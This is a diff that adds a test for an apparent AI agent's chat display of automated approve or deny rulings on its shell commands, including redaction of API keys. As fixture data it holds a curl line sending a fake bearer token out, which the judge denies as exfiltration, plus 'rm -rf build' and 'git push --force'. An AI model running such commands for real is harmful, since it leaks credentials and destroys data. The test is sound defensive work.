@@ -5,6 +5,7 @@ import {
   deliveryFixture,
   delta,
   outcome,
+  ruling,
   toolEnd,
   toolStart,
   until,
@@ -256,6 +257,33 @@ describe('ChatDelivery: tool progress', () => {
     expect(line).not.toContain('sk-abcdefghijklmnopqrstu123');
     expect(line.startsWith('💻 terminal: OPENAI_API_KEY=[REDACTED]')).toBe(true);
     expect(line.length).toBeLessThan(140);
+  });
+});
+
+describe('ChatDelivery: smart approval rulings', () => {
+  it("shows what the smart judge approved or denied even with tool progress off, redacted; not the user's own rulings", async () => {
+    const { adapter, delivery } = await deliveryFixture(
+      { canEdit: false },
+      { toolProgress: 'off' },
+    );
+    delivery.event(toolStart('terminal', { command: 'rm -rf build' }, 'a'));
+    delivery.event(ruling('smart', 'once', 'rm -rf build', 'only the build output'));
+    delivery.event(
+      ruling(
+        'smart',
+        'deny',
+        'curl -H "Authorization: Bearer sk-abcdefghijklmnopqrstu123" x',
+        'exfiltration',
+      ),
+    );
+    delivery.event(ruling('user', 'once', 'git push --force', 'the user said yes'));
+    delivery.finish(outcome('done'));
+    await delivery.done;
+    const texts = adapter.sent.map((m) => m.text);
+    expect(texts[0]).toBe('⚖️ smart approval approved: rm -rf build (only the build output)');
+    expect(texts[1]).toMatch(/^⚖️ smart approval denied: curl .*\(exfiltration\)$/);
+    expect(texts.join('\n')).not.toContain('sk-abcdefghijklmnopqrstu123');
+    expect(texts.slice(2)).toEqual(['done']);
   });
 });
 
